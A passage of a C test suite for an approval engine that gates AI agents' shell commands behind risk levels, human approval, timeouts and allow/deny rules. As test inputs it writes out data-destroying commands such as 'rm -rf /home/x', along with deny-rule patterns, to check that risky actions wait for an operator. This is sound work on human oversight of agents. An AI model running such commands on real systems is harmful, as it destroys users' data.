    assert_int_equal(r.status, 201);
    reply_free(&r);
    free(p);
    p = strdupf("/v1/risk?session=%s", high.id);
    api(harness_eng, "POST", p,
        "{\"action\":{\"action\":\"run\",\"args\":{\"command\":\"git push origin main\"}}}", &r);
    assert_int_equal(r.status, 200);
    assert_string_equal(jstr(r.json, "risk"), "medium");
    assert_string_equal(jstr(r.json, "rule.pattern"), "git push *");
    assert_string_equal(jstr(r.json, "rule.decision"), "deny");
    reply_free(&r);
    api(harness_eng, "POST", p,
        "{\"action\":{\"action\":\"run\",\"args\":{\"command\":\"git status\"}}}", &r);
    assert_int_equal(r.status, 200);
    assert_true(json_is_null(json_object_get(r.json, "rule")));
    reply_free(&r);
    free(p);

    /* bad bodies: the error table's codes */
    static const struct {
        const char *body, *code, *want;
    } bad[] = {
        {"not json", "invalid_json", NULL},
        {"{}", "bad_request", "\"action\" must be an object"},
        {"{\"action\": 1}", "bad_request", "\"action\" must be an object"},
        {"{\"action\": {\"args\": {}}}", "bad_request", "action.action"},
        {"{\"action\": {\"action\": \"run\", \"args\": 3}}", "bad_request", "action.args"},
        {"{\"action\": {\"action\": \"run\", \"confirmation_state\": 1}}", "bad_request",
         "confirmation_state"},
    };
    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
        api(harness_eng, "POST", "/v1/risk", bad[i].body, &r);
        expect_error(&r, 400, bad[i].code, bad[i].want);
        reply_free(&r);
    }
    api(harness_eng, "POST", "/v1/risk?session=no-such-session",
        "{\"action\":{\"action\":\"run\",\"args\":{\"command\":\"ls\"}}}", &r);
    expect_error(&r, 404, "not_found", "no-such-session");
    reply_free(&r);

    /* nothing recorded, nothing pending */
    assert_int_equal(recorded(high.id), before);
}

/* What waits under each policy, and a declared risk that raises but never lowers. */
static void test_policies_and_declared_risk(void **state)
{
    need_high();
    struct sess never = sess_new(harness_eng, "never", NULL);
    struct sess medium = sess_new(harness_eng, "medium", NULL);
    struct sess always = sess_new(harness_eng, "always", NULL);
    const char *hi = "rm -rf /home/x";

    /* never: even HIGH runs at once. */
    json_int_t id = submit(harness_eng, never.id, hi, NO_RISK, "running");
    json_t *g = action_get(harness_eng, id, 60);
    assert_state(g, "done", "none");
    assert_string_equal(jstr(g, "risk"), "high");
    json_decref(g);
    submit(harness_eng, never.id, "echo declared-high", 2, "running");

    /* high: LOW and MEDIUM run, HIGH waits. */
    id = submit(harness_eng, high.id, "echo plain-low", NO_RISK, "running");
    g = action_get(harness_eng, id, 60);
    assert_state(g, "done", "none");
    assert_string_equal(jstr(g, "risk"), "low");
    assert_true(json_is_null(json_object_get(g, "declared_risk")));
    json_decref(g);
    id = submit(harness_eng, high.id, "echo declared-medium", 1, "running");
    g = action_get(harness_eng, id, 60);
    assert_string_equal(jstr(g, "risk"), "medium");
    assert_string_equal(jstr(g, "declared_risk"), "medium");
    json_decref(g);
    /* Declared 2 raises a LOW command to HIGH: it waits. */
    id = submit(harness_eng, high.id, "echo declared-high", 2, "pending");
    g = action_get(harness_eng, id, -1);
    assert_string_equal(jstr(g, "risk"), "high");
    assert_string_equal(jstr(g, "declared_risk"), "high");
    json_decref(g);
    json_decref(decide_ok(harness_eng, id, "reject", "{\"reason\": \"cleanup\"}"));
    /* Declared 0 never lowers a HIGH command: it still waits. */
    id = submit(harness_eng, high.id, hi, 0, "pending");
    g = action_get(harness_eng, id, -1);
    assert_string_equal(jstr(g, "risk"), "high");
    assert_string_equal(jstr(g, "declared_risk"), "low");
    json_decref(g);
    json_decref(decide_ok(harness_eng, id, "reject", NULL));
    /* Declared -1 (unknown in OpenHands) changes nothing. */
    submit(harness_eng, high.id, "echo declared-unknown", -1, "running");

    /* medium: LOW runs, MEDIUM and HIGH wait. */
    submit(harness_eng, medium.id, "echo m-low", NO_RISK, "running");
    json_int_t m1 = submit(harness_eng, medium.id, "echo m-medium", 1, "pending");
    json_int_t m2 = submit(harness_eng, medium.id, hi, NO_RISK, "pending");

    /* always: everything waits. */
    json_int_t a1 = submit(harness_eng, always.id, "echo a-low", NO_RISK, "pending");
    json_int_t a2 = submit(harness_eng, always.id, "echo a-low0", 0, "pending");

    /* Approved, the waiting ones run. */
    json_decref(decide_ok(harness_eng, m1, "approve", NULL));
    json_decref(decide_ok(harness_eng, a1, "approve", NULL));
    g = action_get(harness_eng, m1, 60);
    assert_state(g, "done", "approved");
    assert_string_equal(jstr(g, "observation.content"), "m-medium");
    json_decref(g);
    g = action_get(harness_eng, a1, 60);
    assert_state(g, "done", "approved");
    assert_string_equal(jstr(g, "observation.content"), "a-low");
    json_decref(g);
    json_decref(decide_ok(harness_eng, m2, "reject", NULL));
    json_decref(decide_ok(harness_eng, a2, "reject", NULL));

    session_delete(harness_eng, never.id);
    session_delete(harness_eng, medium.id);
    session_delete(harness_eng, always.id);
    sess_free(&never);
    sess_free(&medium);
    sess_free(&always);
}

/* No decision before the deadline: expired, the agent hears why, a late approval is a 409. */
static void test_timeout(void **state)
{
    struct sess s = sess_new(harness_eng, "high", ", \"approval_timeout\": 1");
    const char *cmd = "rm -rf /home/x && touch /workspace/expired";
    struct async *a = async_run(harness_eng, s.id, cmd, NO_RISK);
    json_int_t w0 = submit(harness_eng, s.id, "rm -rf /home/y && touch /workspace/expired0",
                           NO_RISK, "pending");
    async_join(a);
    if (a->r.status != 200)
        print_reply("blocked execute_action", &a->r);
    assert_int_equal(a->r.status, 200);
    assert_user_rejected(a->r.json, "timeout", "no decision before the approval deadline");
    json_int_t id = json_integer_value(jpath(a->r.json, "extras.action_id"));
    assert_true(id > 0);
    async_free(a);

    json_t *g = action_get(harness_eng, id, -1);
    assert_state(g, "rejected", "expired");
    assert_string_equal(jstr(g, "decided_by"), "timeout");
    json_decref(g);
    decide_expect(harness_eng, id, "approve", NULL, 409, "expired", "expired");
    decide_expect(harness_eng, id, "reject", NULL, 409, "expired", NULL);
    /* The ?wait=0 one expires too, seen by a long poll. */
    g = action_get(harness_eng, w0, 60);
    assert_state(g, "rejected", "expired");
    json_decref(g);
    decide_expect(harness_eng, w0, "approve", "{\"by\": \"late\"}", 409, "expired", NULL);
    g = action_get(harness_eng, w0, -1);
    assert_state(g, "rejected", "expired");
    json_decref(g);

    json_decref(session_run(harness_eng, s.id, "true"));
    assert_false(ws_has(s.ws, "expired"));
    assert_false(ws_has(s.ws, "expired0"));
    session_delete(harness_eng, s.id);
    sess_free(&s);
}

/* Decision errors: 404, 400 for bad ids and bodies, 409 not_pending; nothing changes. */
static void test_decision_errors(void **state)
{
    need_high();
    /* An action that never waited. */
    json_int_t low = submit(harness_eng, high.id, "echo never-waited", NO_RISK, "running");
    json_decref(action_get(harness_eng, low, 60));
    decide_expect(harness_eng, low, "approve", NULL, 409, "not_pending", "never waited");
    decide_expect(harness_eng, low, "reject", NULL, 409, "not_pending", NULL);

    decide_expect(harness_eng, 987654321, "approve", NULL, 404, "not_found", "987654321");
    decide_expect(harness_eng, 987654321, "reject", NULL, 404, "not_found", NULL);
    struct reply r;
    static const char *const bad_ids[] = {"abc", "0", "-4", "7z", "0x10"};
    for (size_t i = 0; i < sizeof(bad_ids) / sizeof(*bad_ids); i++) {
        char *p = strdupf("/v1/actions/%s/approve", bad_ids[i]);
        api(harness_eng, "POST", p, "{}", &r);
        expect_error(&r, 400, "bad_request", "positive integer");
        reply_free(&r);
        free(p);
        p = strdupf("/v1/actions/%s/reject", bad_ids[i]);
        api(harness_eng, "POST", p, NULL, &r);
        expect_error(&r, 400, "bad_request", NULL);
        reply_free(&r);
        free(p);
    }

    const char *cmd = "rm -rf /home/x && touch /workspace/bad-bodies";
    json_int_t id = submit(harness_eng, high.id, cmd, NO_RISK, "pending");
    static const struct {
        const char *verb, *body, *code, *want;
    } bad[] = {
        {"approve", "{\"bogus\": 1}", "bad_request", "bogus"},
        {"approve", "{\"by\": 5}", "bad_request", "\"by\""},
        {"approve", "{\"reason\": [\"x\"]}", "bad_request", "reason"},
        {"approve", "{\"remember\": \"yes\"}", "bad_request", "remember"},
        {"approve", "{\"pattern\": 3, \"remember\": true}", "bad_request", "pattern"},
        {"approve", "{\"pattern\": \"rm *\"}", "bad_request", "\"remember\": true"},
        {"approve", "{\"pattern\": \"rm *\", \"remember\": false}", "bad_request",
         "\"remember\": true"},
        {"approve", "{\"pattern\": \"\", \"remember\": true}", "bad_request", "non-empty"},
        {"approve", "{", "invalid_json", "malformed JSON"},
        {"approve", "{\"by\": \"a\", \"by\": \"b\"}", "invalid_json", NULL},
        {"approve", "[]", "invalid_json", "object"},
        {"approve", "\"approve\"", "invalid_json", NULL},
        {"reject", "{\"remember\": true}", "bad_request", "remember"},
        {"reject", "{\"pattern\": \"x\"}", "bad_request", "pattern"},
        {"reject", "{\"by\": null}", "bad_request", "by"},
        {"reject", "not json", "invalid_json", NULL},
    };
    for (size_t i = 0; i < sizeof(bad) / sizeof(*bad); i++)
        decide_expect(harness_eng, id, bad[i].verb, bad[i].body, 400, bad[i].code, bad[i].want);
    /* A reason over 4096 bytes. */
    char *big = malloc(5000);
    memset(big, 'r', 4999);
    big[4999] = '\0';
    char *body = strdupf("{\"reason\": \"%s\"}", big);
    decide_expect(harness_eng, id, "reject", body, 400, "bad_request", "4096");
    free(body);
    free(big);

    /* Nothing changed: still pending, no rule added, the command not run. */
    json_t *g = action_get(harness_eng, id, -1);
    assert_state(g, "pending", "pending");
    assert_true(json_is_null(json_object_get(g, "decided_by")));
    json_decref(g);
    char *rp = strdupf("/v1/sessions/%s/rules", high.id);
    api(harness_eng, "GET", rp, NULL, &r);
    assert_int_equal(r.status, 200);
    size_t i;
    json_t *rule;
    json_array_foreach(json_object_get(r.json, "rules"), i, rule)
        assert_string_not_equal(jstr(rule, "pattern"), "rm *");
    reply_free(&r);
    free(rp);
    assert_false(ws_has(high.ws, "bad-bodies"));
    /* An empty body is fine. */
    json_decref(decide_ok(harness_eng, id, "reject", ""));
}

/* A paused session: approving is a 409 session_paused (a client says how to resume) and changes
 * nothing; after resume it works. */
static void test_pause(void **state)
{
    struct sess s = sess_new(harness_eng, "high", NULL);
    const char *cmd = "rm -rf /home/x && echo after-resume > /workspace/resumed";
    json_int_t id = submit(harness_eng, s.id, cmd, NO_RISK, "pending");
    char *p = strdupf("/v1/sessions/%s/pause", s.id);
    struct reply r;
    api(harness_eng, "POST", p, NULL, &r);
    assert_int_equal(r.status, 200);
    assert_string_equal(jstr(r.json, "state"), "paused");
    reply_free(&r);
    free(p);

    decide_expect(harness_eng, id, "approve", "{\"by\": \"carol\", \"remember\": true}", 409,
                  "session_paused", "resume");
    json_t *g = action_get(harness_eng, id, -1);
    assert_state(g, "pending", "pending");
    assert_true(json_is_null(json_object_get(g, "decided_by")));
    json_decref(g);
    /* ... and remember added no rule. */
    p = strdupf("/v1/sessions/%s/rules", s.id);
    api(harness_eng, "GET", p, NULL, &r);
    assert_int_equal(r.status, 200);
    assert_int_equal(json_array_size(json_object_get(r.json, "rules")), 0);
    reply_free(&r);
    free(p);
    /* Still listed as waiting. */
    assert_int_equal(wait_pending(harness_eng, s.id, cmd, NULL), id);

    p = strdupf("/v1/sessions/%s/resume", s.id);
    api(harness_eng, "POST", p, NULL, &r);
    assert_int_equal(r.status, 200);
    assert_string_equal(jstr(r.json, "state"), "ready");
    reply_free(&r);
    free(p);
    json_decref(decide_ok(harness_eng, id, "approve", "{\"by\": \"carol\"}"));
    g = action_get(harness_eng, id, 60);
    assert_state(g, "done", "approved");
    json_decref(g);
    assert_true(ws_has(s.ws, "resumed"));
    session_delete(harness_eng, s.id);
    sess_free(&s);
}

/* A stopped session: approving is a 409 "conflict" too; resumed (a new executor in the same
 * container), the approval runs. */
static void test_stopped(void **state)
{
    struct sess s = sess_new(harness_eng, "high", NULL);
    const char *cmd = "rm -rf /home/x && echo after-stop > /workspace/stopped";
    json_int_t id = submit(harness_eng, s.id, cmd, NO_RISK, "pending");
    char *p = strdupf("/v1/sessions/%s/stop", s.id);
    struct reply r;
    api(harness_eng, "POST", p, NULL, &r);
    if (r.status != 200)
        print_reply(p, &r);
    assert_int_equal(r.status, 200);
    reply_free(&r);
    free(p);
    json_decref(session_wait_state(harness_eng, s.id, "stopped", WAIT_MS));
    decide_expect(harness_eng, id, "approve", NULL, 409, "conflict", "stopped");
    json_t *g = action_get(harness_eng, id, -1);
    assert_state(g, "pending", "pending");
    json_decref(g);
    p = strdupf("/v1/sessions/%s/resume", s.id);
    api(harness_eng, "POST", p, NULL, &r);
    if (r.status != 200)
        print_reply(p, &r);
    assert_int_equal(r.status, 200);
    reply_free(&r);
    free(p);
    json_decref(session_wait_state(harness_eng, s.id, "ready", WAIT_MS));
    json_decref(decide_ok(harness_eng, id, "approve", NULL));
    g = action_get(harness_eng, id, 60);
    assert_state(g, "done", "approved");
    json_decref(g);
    assert_true(ws_has(s.ws, "stopped"));
    session_delete(harness_eng, s.id);
    sess_free(&s);
}

/* The container removed outside paddock: approving is a 409 "session_gone" (reject instead);
 * the rejection reaches the agent that waits. */
static void test_session_gone(void **state)
{
    struct sess s = sess_new(harness_eng, "high", NULL);
    char *sp = strdupf("/v1/sessions/%s", s.id);
    struct reply r;
    api(harness_eng, "GET", sp, NULL, &r);
    char *cid = strdup(jstr(r.json, "container_id"));
    reply_free(&r);
    const char *cmd = "rm -rf /home/x && touch /workspace/gone";
    struct async *a = async_run(harness_eng, s.id, cmd, NO_RISK);
    json_int_t id = wait_pending(harness_eng, s.id, cmd, NULL);
    char *dp = strdupf("/v1.41/containers/%s?force=1&v=1", cid);
    docker("DELETE", dp, &r);
    assert_int_equal(r.status, 204);
    reply_free(&r);
    free(dp);
    json_decref(session_wait_state(harness_eng, s.id, "error", WAIT_MS));
    decide_expect(harness_eng, id, "approve", NULL, 409, "session_gone", "reject");
    assert_false(atomic_load(&a->done));
    json_t *g = action_get(harness_eng, id, -1);
    assert_state(g, "pending", "pending");
    json_decref(g);
    json_decref(decide_ok(harness_eng, id, "reject", "{\"reason\": \"sandbox gone\"}"));
    async_join(a);
    assert_int_equal(a->r.status, 200);
    assert_user_rejected(a->r.json, "operator", "sandbox gone");
    async_free(a);
    assert_false(ws_has(s.ws, "gone"));
    session_delete(harness_eng, s.id);
    free(cid);
    free(sp);
    sess_free(&s);
}

/* Deleting the session rejects what waits in it: the blocked agent hears why; approving later
 * is a 409. */
static void test_session_deleted(void **state)
{
    struct sess s = sess_new(harness_eng, "high", NULL);
    const char *cmd = "rm -rf /home/x && touch /workspace/deleted";
    struct async *a = async_run(harness_eng, s.id, cmd, NO_RISK);
    json_int_t id = wait_pending(harness_eng, s.id, cmd, NULL);
    json_int_t w0 = submit(harness_eng, s.id, "rm -rf /home/y && touch /workspace/deleted0",
                           NO_RISK, "pending");
    session_delete(harness_eng, s.id);
    async_join(a);
    if (a->r.status != 200)
        print_reply("blocked execute_action", &a->r);
    assert_int_equal(a->r.status, 200);
    assert_user_rejected(a->r.json, "engine", "the session was deleted");
    async_free(a);
    for (int i = 0; i < 2; i++) {
        json_int_t x = i ? w0 : id;
        json_t *g = action_get(harness_eng, x, -1);
        assert_state(g, "rejected", "rejected");
        assert_string_equal(jstr(g, "decided_by"), "engine");
        json_decref(g);
        decide_expect(harness_eng, x, "approve", NULL, 409, "already_decided", "engine");
    }
    /* No longer listed. */
    char *p = strdupf("/v1/approvals?session=%s", s.id);
    struct reply r;
    api(harness_eng, "GET", p, NULL, &r);
    assert_int_equal(r.status, 200);
    assert_int_equal(json_array_size(json_object_get(r.json, "approvals")), 0);
    reply_free(&r);
    free(p);
    assert_false(ws_has(s.ws, "deleted"));
    assert_false(ws_has(s.ws, "deleted0"));
    sess_free(&s);
}

static void rules_post(struct engine_proc *e, const char *sid, const char *body, struct reply *r)
{
    char *p = strdupf("/v1/sessions/%s/rules", sid);
    api(e, "POST", p, body, r);
    free(p);
}

/* Operator rules: bad bodies, deny at once, allow at once ("auto"), deny over allow, and an
 * approval that remembers. */
static void test_rules(void **state)
{
    struct sess s = sess_new(harness_eng, "medium", NULL);
    struct reply r;
    static const struct {
        const char *body, *code, *want;
    } bad[] = {
        {"[]", "invalid_json", "object"},
        {"{", "invalid_json", NULL},
        {"", "invalid_json", "empty"},
        {"{}", "bad_request", "pattern"},
        {"{\"pattern\": \"\", \"decision\": \"allow\"}", "bad_request", "pattern"},
        {"{\"pattern\": 5, \"decision\": \"allow\"}", "bad_request", "pattern"},
        {"{\"pattern\": \"ls\"}", "bad_request", "decision"},
        {"{\"pattern\": \"ls\", \"decision\": \"maybe\"}", "bad_request", "decision"},
        {"{\"pattern\": \"ls\", \"decision\": true}", "bad_request", "decision"},
        {"{\"pattern\": \"ls\", \"decision\": \"allow\", \"extra\": 1}", "bad_request",
         "unknown key"},
        {"{\"pattern\": \"ls\", \"decision\": \"allow\", \"kind\": \"nope\"}", "bad_request",
         "kind"},
    };
    for (size_t i = 0; i < sizeof(bad) / sizeof(*bad); i++) {
        rules_post(harness_eng, s.id, bad[i].body, &r);
        expect_error(&r, 400, bad[i].code, bad[i].want);
        reply_free(&r);
    }
    rules_post(harness_eng, "0123456789abcdef", "{\"pattern\": \"ls\", \"decision\": \"allow\"}",
               &r);
    assert_int_equal(r.status, 404);
    reply_free(&r);
    api(harness_eng, "GET", "/v1/sessions/0123456789abcdef/rules", NULL, &r);
    assert_int_equal(r.status, 404);
    reply_free(&r);
    char *rp = strdupf("/v1/sessions/%s/rules", s.id);
    api(harness_eng, "GET", rp, NULL, &r);
    assert_int_equal(r.status, 200);
    assert_int_equal(json_array_size(json_object_get(r.json, "rules")), 0);
    reply_free(&r);

    rules_post(harness_eng, s.id, "{\"pattern\": \"rm -rf /home/denied*\", \"decision\": \"deny\"}",
               &r);
    assert_int_equal(r.status, 201);
    assert_int_equal(json_array_size(json_object_get(r.json, "rules")), 1);
    reply_free(&r);
    rules_post(harness_eng, s.id,
               "{\"pattern\": \"rm -rf /workspace/allowed && echo *\", \"decision\": \"allow\"}",
               &r);
    assert_int_equal(r.status, 201);
    reply_free(&r);
    /* An allow that also matches a denied command: the deny wins. */
    rules_post(harness_eng, s.id,
               "{\"pattern\": \"rm -rf /home/* && touch *\", \"decision\": \"allow\"}", &r);
    assert_int_equal(r.status, 201);
    json_t *rules = json_incref(json_object_get(r.json, "rules"));
    reply_free(&r);
    assert_int_equal(json_array_size(rules), 3);
    assert_string_equal(jstr(json_array_get(rules, 0), "pattern"), "rm -rf /home/denied*");
    assert_string_equal(jstr(json_array_get(rules, 0), "decision"), "deny");
    assert_string_equal(jstr(json_array_get(rules, 0), "created_by"), "operator");
    assert_true(json_is_integer(json_object_get(json_array_get(rules, 0), "id")));
    assert_true(json_is_number(json_object_get(json_array_get(rules, 0), "created_at")));
    char *denied_why =
        strdupf("denied by rule %lld \"rm -rf /home/denied*\"",
                (long long)json_integer_value(json_object_get(json_array_get(rules, 0), "id")));
    json_decref(rules);
    api(harness_eng, "GET", rp, NULL, &r);
    assert_int_equal(r.status, 200);
    assert_int_equal(json_array_size(json_object_get(r.json, "rules")), 3);
    reply_free(&r);

    /* Deny: rejected at once, never run. */
    char *body = run_body("rm -rf /home/denied && touch /workspace/denied", NO_RISK, NULL);
    execute(harness_eng, s.id, body, false, &r);
    free(body);
    assert_int_equal(r.status, 200);
    assert_user_rejected(r.json, "rule", denied_why);
    free(denied_why);
    reply_free(&r);
    /* Allow: runs at once, approval "auto" decided by "rule" (a MEDIUM command: at or below
     * the ceiling). */
    body = run_body("rm -rf /workspace/allowed && echo allowed-ran", NO_RISK, NULL);
    execute(harness_eng, s.id, body, false, &r);
    free(body);
    assert_int_equal(r.status, 200);
    assert_string_equal(jstr(r.json, "content"), "allowed-ran");
    reply_free(&r);
    json_t *h = NULL;
    api(harness_eng, "GET", "/v1/history?q=allowed-ran", NULL, &r);
    assert_int_equal(r.status, 200);
    h = json_incref(json_array_get(json_object_get(r.json, "actions"), 0));
    reply_free(&r);
    assert_non_null(h);
    assert_state(h, "done", "auto");
    assert_string_equal(jstr(h, "decided_by"), "rule");
    assert_string_equal(jstr(h, "risk"), "medium");
    assert_string_equal(jstr(h, "rule.pattern"), "rm -rf /workspace/allowed && echo *");
    json_int_t auto_id = json_integer_value(json_object_get(h, "id"));
    json_decref(h);
    decide_expect(harness_eng, auto_id, "approve", NULL, 409, "already_decided", "rule");
    assert_false(ws_has(s.ws, "denied"));

    /* The default ceiling is high: a HIGH command an allow rule matches runs too (a lower
     * ceiling is held by the rules suite). */
    rules_post(harness_eng, s.id,
               "{\"pattern\": \"rm -rf /home/allowed && echo *\", \"decision\": \"allow\"}", &r);
    assert_int_equal(r.status, 201);
    reply_free(&r);
    body = run_body("rm -rf /home/allowed && echo high-ran", NO_RISK, NULL);
    execute(harness_eng, s.id, body, false, &r);
    free(body);
    assert_int_equal(r.status, 200);
    assert_string_equal(jstr(r.json, "content"), "high-ran");
    reply_free(&r);

    /* remember: the same command runs without waiting next time, a different one still waits.
     * A command with glob characters is remembered exactly, not as a glob. */
    struct sess m = sess_new(harness_eng, "medium", NULL);
    const char *cmd = "rm -rf /workspace/star* && echo remembered";
    json_int_t id = submit(harness_eng, m.id, cmd, NO_RISK, "pending");
    json_decref(decide_ok(harness_eng, id, "approve", "{\"by\": \"dave\", \"remember\": true}"));
    json_decref(action_get(harness_eng, id, 60));
    char *mp = strdupf("/v1/sessions/%s/rules", m.id);
    api(harness_eng, "GET", mp, NULL, &r);
    assert_int_equal(r.status, 200);
    assert_int_equal(json_array_size(json_object_get(r.json, "rules")), 1);
    json_t *rule = json_array_get(json_object_get(r.json, "rules"), 0);
    assert_string_equal(jstr(rule, "pattern"), "rm -rf /workspace/star\\* && echo remembered");
    assert_string_equal(jstr(rule, "decision"), "allow");
    assert_string_equal(jstr(rule, "created_by"), "dave");
    reply_free(&r);
    body = run_body(cmd, NO_RISK, NULL);
    execute(harness_eng, m.id, body, false, &r);
    free(body);
    assert_int_equal(r.status, 200);
    assert_string_equal(jstr(r.json, "content"), "remembered");
    reply_free(&r);
    submit(harness_eng, m.id, "rm -rf /workspace/starX && echo remembered", NO_RISK, "pending");
    /* With a pattern. */
    id = submit(harness_eng, m.id, "rm -rf /workspace/pat1", NO_RISK, "pending");
    json_decref(decide_ok(harness_eng, id, "approve",
                          "{\"remember\": true, \"pattern\": \"rm -rf /workspace/pat*\"}"));
    id = submit(harness_eng, m.id, "rm -rf /workspace/pat2", NO_RISK, "running");
    json_t *g = action_get(harness_eng, id, 60);
    assert_state(g, "done", "auto");
    json_decref(g);
    api(harness_eng, "GET", mp, NULL, &r);
    assert_int_equal(json_array_size(json_object_get(r.json, "rules")), 2);
    assert_string_equal(jstr(json_array_get(json_object_get(r.json, "rules"), 1), "pattern"),
                        "rm -rf /workspace/pat*");
    reply_free(&r);
    /* Rules belong to their session: m's pattern does not reach another session. */
    struct sess other = sess_new(harness_eng, "medium", NULL);
    id = submit(harness_eng, other.id, "rm -rf /workspace/pat4", NO_RISK, "pending");
    json_decref(decide_ok(harness_eng, id, "reject", NULL));

    free(mp);
    free(rp);
    session_delete(harness_eng, other.id);
    sess_free(&other);
    session_delete(harness_eng, m.id);
    session_delete(harness_eng, s.id);
    sess_free(&m);
    sess_free(&s);
}

/* GET /v1/approvals: oldest first, with args, filtered by session. */
static void test_approvals_list(void **state)
{
    struct sess a = sess_new(harness_eng, "always", NULL);
    struct sess b = sess_new(harness_eng, "always", NULL);
    json_int_t a1 = submit(harness_eng, a.id, "echo list-a1", NO_RISK, "pending");
    json_int_t b1 = submit(harness_eng, b.id, "echo list-b1", NO_RISK, "pending");
    json_int_t a2 = submit(harness_eng, a.id, "echo list-a2", NO_RISK, "pending");

    struct reply r;
    api(harness_eng, "GET", "/v1/approvals", NULL, &r);
    assert_int_equal(r.status, 200);
    json_t *list = json_object_get(r.json, "approvals");
    json_int_t seen[3] = {0};
    int n = 0;
    json_int_t prev = 0;
    size_t i;
    json_t *x;
    json_array_foreach(list, i, x)
    {
        json_int_t id = json_integer_value(json_object_get(x, "id"));
        assert_true(id > prev); /* oldest first */
        prev = id;
        assert_string_equal(jstr(x, "state"), "pending");
        assert_true(json_is_object(json_object_get(x, "args")));
        if (id == a1 || id == b1 || id == a2) {
            assert_true(n < 3);
            seen[n++] = id;
        }
    }
    assert_int_equal(n, 3);
    assert_int_equal(seen[0], a1);
    assert_int_equal(seen[1], b1);
    assert_int_equal(seen[2], a2);
    reply_free(&r);

    char *p = strdupf("/v1/approvals?session=%s", a.id);
    api(harness_eng, "GET", p, NULL, &r);
    free(p);
    assert_int_equal(r.status, 200);
    list = json_object_get(r.json, "approvals");
    assert_int_equal(json_array_size(list), 2);
    assert_int_equal(json_integer_value(json_object_get(json_array_get(list, 0), "id")), a1);
    assert_int_equal(json_integer_value(json_object_get(json_array_get(list, 1), "id")), a2);
    assert_string_equal(jstr(json_array_get(list, 1), "args.args.command"), "echo list-a2");
    assert_string_equal(jstr(json_array_get(list, 1), "session_id"), a.id);
    reply_free(&r);
    api(harness_eng, "GET", "/v1/approvals?session=nosuchsession", NULL, &r);
    assert_int_equal(r.status, 200);
    assert_int_equal(json_array_size(json_object_get(r.json, "approvals")), 0);
    reply_free(&r);

    /* The session object counts what waits. */
    p = strdupf("/v1/sessions/%s", a.id);
    api(harness_eng, "GET", p, NULL, &r);
    assert_int_equal(json_integer_value(json_object_get(r.json, "pending_approvals")), 2);
    assert_int_equal(json_integer_value(json_object_get(r.json, "action_count")), 2);
    reply_free(&r);

    /* Decided, they leave the list and the count. */
    json_decref(decide_ok(harness_eng, a1, "approve", NULL));
    api(harness_eng, "GET", p, NULL, &r);
    assert_int_equal(json_integer_value(json_object_get(r.json, "pending_approvals")), 1);
    reply_free(&r);
    free(p);
    p = strdupf("/v1/approvals?session=%s", a.id);
    api(harness_eng, "GET", p, NULL, &r);
    free(p);
    assert_int_equal(json_array_size(json_object_get(r.json, "approvals")), 1);
    reply_free(&r);

    session_delete(harness_eng, a.id);
    session_delete(harness_eng, b.id);
    sess_free(&a);
    sess_free(&b);
}

/* SSE: "approval" when an action starts waiting and when it is decided. */
static void test_approval_events(void **state)
{
    need_high();
    struct sse *ev = sse_open(harness_eng->socket, "/v1/events");
    double t0 = now_ms();
    while (!ev->status && now_ms() - t0 < 5000)
        sse_pump(ev, 100);
    assert_int_equal(ev->status, 200);

    const char *cmd = "rm -rf /home/events-approved";
    json_int_t id = submit(harness_eng, high.id, cmd, NO_RISK, "pending");
    json_t *e = sse_wait(ev, "approval", "summary", cmd, "approval", "pending", WAIT_MS);
    assert_non_null(e);
    assert_int_equal(json_integer_value(json_object_get(e, "id")), id);
    assert_string_equal(jstr(e, "state"), "pending");
    assert_string_equal(jstr(e, "risk"), "high");
    assert_true(json_is_number(json_object_get(e, "deadline")));
    assert_non_null(sse_wait(ev, "action", "summary", cmd, "state", "pending", WAIT_MS));
    json_decref(decide_ok(harness_eng, id, "approve", "{\"by\": \"eve\"}"));
    e = sse_wait(ev, "approval", "summary", cmd, "approval", "approved", WAIT_MS);
    assert_non_null(e);
    assert_string_equal(jstr(e, "decided_by"), "eve");
    assert_non_null(sse_wait(ev, "action", "summary", cmd, "state", "done", WAIT_MS));

    const char *cmd2 = "rm -rf /home/events-rejected";
    id = submit(harness_eng, high.id, cmd2, NO_RISK, "pending");
    assert_non_null(sse_wait(ev, "approval", "summary", cmd2, "approval", "pending", WAIT_MS));
    json_decref(decide_ok(harness_eng, id, "reject", "{\"by\": \"eve\"}"));
    e = sse_wait(ev, "approval", "summary", cmd2, "approval", "rejected", WAIT_MS);
    assert_non_null(e);
    assert_string_equal(jstr(e, "state"), "rejected");
    /* A LOW action never makes an approval event. */
    json_decref(session_run(harness_eng, high.id, "echo no-approval-event"));
    assert_non_null(
        sse_wait(ev, "action", "summary", "echo no-approval-event", "state", "done", WAIT_MS));
    size_t i;
    json_t *x;
    json_array_foreach(ev->events, i, x)
    {
        if (strcmp(jstr(x, "type"), "approval") == 0)
            assert_string_not_equal(jstr(x, "data.summary"), "echo no-approval-event");
    }
    sse_close(ev);
}

static json_t *history(struct engine_proc *e, const char *query)
{
    char *p = strdupf("/v1/history%s", query);
    struct reply r;
    api(e, "GET", p, NULL, &r);
    if (r.status != 200)
        print_reply(p, &r);
    assert_int_equal(r.status, 200);
    assert_true(json_is_array(json_object_get(r.json, "actions")));
    json_t *j = json_incref(r.json);
    reply_free(&r);
    free(p);
    return j;
}

static bool has_id(json_t *h, json_int_t id)
{
    size_t i;
    json_t *x;
    json_array_foreach(json_object_get(h, "actions"), i, x)
    {
        if (json_integer_value(json_object_get(x, "id")) == id)
            return true;
    }
    return false;
}

/* Every row of the page has key == want. */
static void all_have(json_t *h, const char *key, const char *want)
{
    size_t i;
    json_t *x;
    json_array_foreach(json_object_get(h, "actions"), i, x) assert_string_equal(jstr(x, key), want);
}

/* GET /v1/history: search by output and command, filters, paging; query syntax is text. */
static void test_history(void **state)
{
    struct sess s = sess_new(harness_eng, "high", NULL);
    json_t *obs = session_run(harness_eng, s.id, "printf 'zebra%s\\n' quokka");
    assert_string_equal(jstr(obs, "content"), "zebraquokka");
    json_decref(obs);
    json_t *h = history(harness_eng, "?q=zebraquokka");
    assert_int_equal(json_array_size(json_object_get(h, "actions")), 1);
    json_t *hit = json_array_get(json_object_get(h, "actions"), 0);
    json_int_t out_id = json_integer_value(json_object_get(hit, "id"));
    assert_string_equal(jstr(hit, "summary"), "printf 'zebra%s\\n' quokka");
    assert_string_equal(jstr(hit, "session_id"), s.id);
    assert_true(json_is_null(json_object_get(h, "next_before")));
    json_decref(h);
    /* By a word of its command; every word must appear. */
    h = history(harness_eng, "?q=printf");
    assert_true(has_id(h, out_id));
    json_decref(h);
    h = history(harness_eng, "?q=printf%20zebraquokka");
    assert_true(has_id(h, out_id));
    json_decref(h);
